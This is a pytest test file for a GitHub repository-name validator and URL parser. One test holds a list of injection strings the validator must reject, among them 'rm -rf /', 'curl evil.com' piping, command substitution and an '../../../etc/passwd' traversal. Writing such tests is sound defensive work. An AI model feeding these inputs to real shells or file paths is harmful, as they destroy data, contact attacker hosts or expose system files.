"""Tests for repository coordinate validation and URL parsing."""

import pytest

from github_app_tokens import RepoFormatError, parse_github_url
from github_app_tokens.repo import strip_dot_git, validate_repo_part


class TestValidateRepoPart:
    """Test validation of repository names to prevent injection."""

    def test_valid_parts(self):
        """Test that usual owner and repository names are accepted."""
        for part in ["JuliaLang", "julia", "PrivateAnalysis.jl", "my_repo", "a-b.c_d", "0"]:
            validate_repo_part(part, "repo_name")

    def test_injection_attempts_rejected(self):
        """Test that shell and path injection attempts are rejected."""
        malicious_parts = [
            'registratortestorg"; rm -rf /; #"',
            "repo && malicious-command",
            "repo | curl evil.com",
            "$(malicious-command)",
            "`malicious-command`",
            "repo\nmalicious-command",
            "repo\n",
            "../../../etc/passwd",
            "org/repo",
            "repo?ref=main",
            "repo#readme",
            "répo",
            " repo",
            "",
        ]

        for part in malicious_parts:
            with pytest.raises(RepoFormatError, match="`repo_namespace` is invalid"):
                validate_repo_part(part, "repo_namespace")

    def test_error_keeps_value(self):
        with pytest.raises(RepoFormatError) as exc_info:
            validate_repo_part("bad name", "repo_name")
        assert exc_info.value.value == "bad name"


class TestStripDotGit:
    def test_strip(self):
        assert strip_dot_git("julia.git") == "julia"
        assert strip_dot_git("julia") == "julia"
        assert strip_dot_git("julia.git.git") == "julia.git"
        assert strip_dot_git("git") == "git"


class TestParseGithubUrl:
    """Tests for extracting a repository from a URL."""

    def test_web_url(self):
        assert parse_github_url("https://github.com/JuliaLang/julia") == ("JuliaLang", "julia")

    def test_api_url(self):
        assert parse_github_url("https://api.github.com/repos/JuliaLang/julia/artifacts/1234") == (
            "JuliaLang",
            "julia",
        )

    def test_clone_url(self):
        assert parse_github_url("https://github.com/JuliaLang/julia.git") == ("JuliaLang", "julia")

    def test_deeper_web_url(self):
        assert parse_github_url("https://github.com/JuliaLang/julia/pull/1/files") == (
            "JuliaLang",
            "julia",
        )

    def test_enterprise_api_url(self):
        assert parse_github_url("https://api.ghe.example.com/repos/org/repo") == ("org", "repo")

    def test_repeated_slashes(self):
        assert parse_github_url("https://github.com//JuliaLang//julia/") == ("JuliaLang", "julia")

    @pytest.mark.parametrize(
        "url",
        ["https://github.com/JuliaLang", "https://github.com/", "https://api.github.com/repos/JuliaLang"],
    )
    def test_too_short(self, url):
        with pytest.raises(RepoFormatError, match="does not point to a repository"):
            parse_github_url(url)
